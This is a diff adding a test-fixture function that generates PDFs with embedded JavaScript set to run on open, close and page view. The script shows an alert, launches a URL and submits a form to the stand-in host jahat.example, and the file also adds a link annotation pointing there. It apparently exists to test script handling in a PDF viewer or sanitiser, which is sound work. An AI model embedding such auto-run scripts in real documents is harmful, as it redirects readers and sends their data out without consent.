@@ -33,3 +33,29 @@ export function smallPdf(padding = 0): Buffer {
     Buffer.from('\ntrailer<</Root 1 0 R>>\n%%EOF\n'),
   ])
 }
+
+/**
+ * A PDF with a line of text on each page, and scripts that want to run as it is opened, closed and looked at: to say
+ * something, to go elsewhere, to send a form.
+ */
+export function scriptedPdf(pages: readonly string[]): Buffer {
+  const script =
+    'app.alert("JALAN"); app.launchURL("https://jahat.example/", true); this.submitForm("https://jahat.example/");'
+  const action = `<</S/JavaScript/JS(${script.replaceAll(/[()]/g, '\\$&')})>>`
+  const kids = pages.map((_, n) => `${5 + n * 2} 0 R`).join(' ')
+  const objects = [
+    `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}/AA<</WC ${action}>>/Names<</JavaScript<</Names[(a) ${action}]>>>>>>`,
+    `<</Type/Pages/Kids[${kids}]/Count ${pages.length}>>`,
+    '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
+    `<</Type/Annot/Subtype/Link/Rect[0 0 400 400]/A<</S/URI/URI(https://jahat.example/)>>>>`,
+    ...pages.flatMap((line, n) => {
+      const drawn = `BT /F 24 Tf 30 200 Td (${line}) Tj ET 30 60 120 60 re f`
+      return [
+        `<</Type/Page/Parent 2 0 R/MediaBox[0 0 400 400]/Resources<</Font<</F 3 0 R>>>>/Annots[4 0 R]/AA<</O ${action}>>/Contents ${6 + n * 2} 0 R>>`,
+        `<</Length ${drawn.length}>>stream\n${drawn}\nendstream`,
+      ]
+    }),
+  ]
+  const body = objects.map((object, n) => `${n + 1} 0 obj\n${object}\nendobj\n`).join('')
+  return Buffer.from(`%PDF-1.7\n${body}trailer<</Root 1 0 R/Size ${objects.length + 1}>>\n%%EOF\n`)
+}
